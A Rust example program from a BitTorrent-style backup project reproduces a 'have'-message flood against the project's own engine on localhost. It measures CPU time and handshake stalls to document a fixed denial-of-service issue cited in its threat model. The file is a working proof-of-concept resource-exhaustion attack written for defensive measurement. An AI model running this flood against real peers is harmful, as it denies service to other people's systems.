//! Issue 11's `have` flood against a real engine, measured (not run by CI: an attack, not
//! a benchmark; protocol-spec/threat-model.md cites it).
//!
//! ```sh
//! cargo run --release -p swarmbak-agent --example attack_haves -- [PIECES] [HAVES]
//! ```
//!
//! An engine on 127.0.0.1 replicates a crafted format-2 snapshot of PIECES pieces
//! (default 49,152: 4,096 stripes of 8 + 4 shards of 16 KiB, random hashes and roots,
//! nothing seeded), as an agent does for a snapshot the tracker lists. An attacker
//! connects over TCP, sends the handshake and HAVES `have` messages (default 2,000, one
//! per piece, 9 bytes each) in one write. Printed: the process's CPU time until the
//! engine has taken every `have` in (its view of the peer holds them all), the wall time,
//! and how long a second connection opened just after the flood waits for the engine's
//! handshake. Before issue 11 (each `have` recomputed wanted pieces under the torrent
//! lock): 34.6 s of CPU, a new handshake stalled 18.75 s.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use swarmbak_agent::{Engine, EngineConfig, Role, Torrent};
use swarmbak_core::{InfoHash, MachineKey};
use swarmbak_format::Home;
use swarmbak_wire::{Handshake, Message};

#[path = "../tests/common/crafted.rs"]
mod crafted;

/// This process's user + system CPU time (from /proc/self/stat, in clock ticks of 10 ms).
fn cpu() -> Duration {
    let s = std::fs::read_to_string("/proc/self/stat").expect("/proc/self/stat");
    // Fields after the command name (which is in parentheses and may hold spaces).
    let rest = &s[s.rfind(')').expect("stat") + 2..];
    let f: Vec<&str> = rest.split(' ').collect();
    let ticks: u64 = f[11].parse::<u64>().expect("utime") + f[12].parse::<u64>().expect("stime");
    Duration::from_millis(ticks * 10)
}

/// A BitTorrent client's handshake (extension protocol and Fast, as the agent's own).
fn handshake(ih: &InfoHash, peer_id: [u8; 20]) -> [u8; 68] {
    let mut h = Handshake::new(ih.0, peer_id);
    h.reserved = swarmbak_agent::peer::reserved();
    h.to_bytes()
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() {
    let mut args = std::env::args().skip(1);
    let pieces: usize = args.next().map_or(49_152, |a| a.parse().expect("PIECES"));
    let haves: usize = args.next().map_or(2_000, |a| a.parse().expect("HAVES"));
    let dir = tempfile::tempdir().expect("tempdir");
    let (home, _) = Home::create(&dir.path().join("home")).expect("home");
    let store = home.store();
    let (ih, pieces) = crafted::crafted_snapshot(&store, pieces);
    let haves = haves.min(pieces);
    let shard = crafted::SHARD;
    let me = MachineKey::from_age_recipient(&home.recipient().expect("key").to_string())
        .expect("machine key");
    let engine = Engine::start(EngineConfig::new(
        "127.0.0.1:0".parse().expect("addr"),
        Some(me.clone()),
    ))
    .await
    .expect("engine");
    let t = Torrent::open(&store, ih, Role::Replicate { copies: 2 }, None, Some(me))
        .expect("the crafted snapshot opens");
    engine.add(t.clone());
    let addr = engine.local_addr();
    eprintln!(
        "attack_haves: engine on {addr} replicating {ih}: {pieces} pieces of {} KiB",
        shard / 1024
    );

    let flood = {
        tokio::task::spawn_blocking(move || {
            let mut s = TcpStream::connect(addr).expect("connect");
            s.write_all(&handshake(&ih, [b'A'; 20])).expect("handshake");
            let mut theirs = [0u8; 68];
            s.read_exact(&mut theirs).expect("their handshake");
            let msgs: Vec<u8> = (0..haves as u32)
                .flat_map(|p| Message::Have(p).to_bytes())
                .collect();
            let (c0, w0) = (cpu(), Instant::now());
            s.write_all(&msgs).expect("haves");
            (s, c0, w0, msgs.len())
        })
        .await
        .expect("flood")
    };
    let (_keep, c0, w0, sent) = flood;
    // A second connection just after the flood: how long until the engine answers it.
    let second = tokio::task::spawn_blocking(move || {
        let at = Instant::now();
        let mut s = TcpStream::connect(addr).expect("connect");
        s.write_all(&handshake(&ih, [b'B'; 20])).expect("handshake");
        let mut theirs = [0u8; 68];
        s.read_exact(&mut theirs).expect("their handshake");
        (at.elapsed(), s)
    });
    let deadline = Instant::now() + Duration::from_secs(120);
    let counted = loop {
        let n = t
            .inner()
            .peers
            .values()
            .map(|p| p.has.count() as usize)
            .max()
            .unwrap_or(0);
        if n >= haves || Instant::now() > deadline {
            break n;
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    };
    let (cpu_used, wall) = (cpu().saturating_sub(c0), w0.elapsed());
    let (stall, _s2) = second.await.expect("second connection");
    // Let the connections' timers run: the one recomputation per tick the flood costs.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let cpu_after = cpu().saturating_sub(c0);
    println!(
        "{haves} haves ({sent} bytes) on a {pieces}-piece snapshot: {counted} taken in {:.3} s wall, {:.2} s CPU (2 s later: {:.2} s CPU); a new connection's handshake answered after {:.3} s",
        wall.as_secs_f64(),
        cpu_used.as_secs_f64(),
        cpu_after.as_secs_f64(),
        stall.as_secs_f64()
    );
    if counted < haves {
        eprintln!("attack_haves: the engine took {counted} of {haves} haves in 120 s");
        std::process::exit(1);
    }
}
